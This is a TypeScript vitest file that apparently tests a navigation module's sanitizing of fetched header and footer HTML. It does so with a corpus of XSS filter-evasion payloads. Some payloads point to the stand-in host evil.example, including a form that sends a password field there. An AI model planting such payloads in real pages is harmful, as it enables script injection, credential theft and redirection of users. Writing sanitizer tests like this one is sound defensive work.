import { createServer } from 'node:http'
import { once } from 'node:events'
import { parseFragment, type DefaultTreeAdapterTypes as Tree } from 'parse5'
import { expect, onTestFinished, test } from 'vitest'
import { createNavigation } from './navigation.ts'

/** After the OWASP filter evasion cheat sheet and what has broken sanitizers. */
const corpus = [
  '<script>x()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>x()</scr</script>ipt>',
  '<img src=x onerror=x()>',
  '<img src="javascript:x()">',
  '<img src="data:image/svg+xml,<svg onload=x()>">',
  '<a href="java\nscript:x()">a</a>',
  '<a href="&#106;avascript:x()">a</a>',
  '<a href=" javascript:x()">a</a>',
  '<a href="vbscript:x">a</a>',
  '<a href="//evil.example/">a</a>',
  '<a href="data:text/html,<script>x()</script>">a</a>',
  '<a style="position:fixed;inset:0" href="/">a</a>',
  '<svg><script>x()</script></svg>',
  '<svg><a xlink:href="javascript:x()"><text>a</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=x()></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=x()>"></noscript>',
  '<form action="https://evil.example/"><input name=password><button formaction=javascript:x()>a</button></form>',
  '<iframe srcdoc="<script>parent.x()</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<link rel="import" href="/x"><link rel="preload" as="script" href="https://evil.example/x.js">',
  '<style>@import "https://evil.example/a.css"; body{background:url(javascript:x())}</style>',
  '<div onmouseover=x() class=a>b</div>',
  '<div><!--<img src="--><img src=x onerror=x()>"></div>',
  '<template><script>x()</script></template>',
  '<textarea></textarea><script>x()</script>',
  '<p>a</p></body></html><script>x()</script>',
  '<marquee onstart=x()>a</marquee><video><source onerror=x()></video><details ontoggle=x() open>a</details>',
  '\u0000<scr\u0000ipt>x()</script>',
]

const allowed = new Set('div nav ul ol li a span p strong small br img link meta'.split(' '))
const attributes = new Set(
  'class id aria-label role lang href target rel src alt width height name content'.split(' '),
)
const addresses = new Set(['href', 'src'])

/** What a browser would make of it: elements, attributes and addresses that must not be there. */
function offences(html: string, origin: string): string[] {
  const found: string[] = []
  const walk = (node: Tree.Node) => {
    if ('tagName' in node) {
      if (!allowed.has(node.tagName)) found.push(`<${node.tagName}>`)
      for (const { name, value } of node.attrs) {
        if (!attributes.has(name)) found.push(name)
        if (addresses.has(name) && !/^(https?:\/\/|\/(?!\/)|[\w#?.])/.test(value)) found.push(value)
        if (addresses.has(name) && /^\s*[a-z]+\s*script:|^data:/i.test(value)) found.push(value)
      }
      if (node.tagName === 'link' && !html.includes(`href="${origin}/`)) found.push(html)
    }
    if ('childNodes' in node) node.childNodes.forEach(walk)
  }
  walk(parseFragment(html))
  return found
}

test.each(corpus)('共通ヘッダーに紛れ込んだ %s は、ブラウザに何もさせない', async (hostile) => {
  const server = createServer((_, outgoing) =>
    outgoing.end(
      JSON.stringify({ head: hostile, header: hostile, footer: hostile, main_contents: hostile }),
    ),
  ).listen(0, '127.0.0.1')
  await once(server, 'listening')
  onTestFinished(() => void server.close())
  const address = server.address()
  const origin = `http://127.0.0.1:${typeof address === 'object' ? address?.port : 0}`
  const navigation = createNavigation({
    url: `${origin}/navi`,
    monotonicMs: () => 0,
    // What is cleaned is asked, not how soon: a busy machine takes longer than a page waits.
    waitMs: 60_000,
    onFailure: (cause) => {
      throw cause
    },
  })
  const html = await navigation.fetch({
    is_sp: false,
    dmm_login: false,
    mvno_member: false,
    back_path: '/',
  })
  for (const part of [html.head, html.header, html.footer, html.main_contents])
    expect(offences(part, origin)).toEqual([])
})

test('検査は、掃除していないものを見つける', () => {
  const missed = corpus.filter((hostile) => offences(hostile, 'http://127.0.0.1:1').length === 0)
  expect(missed).toEqual([])
})
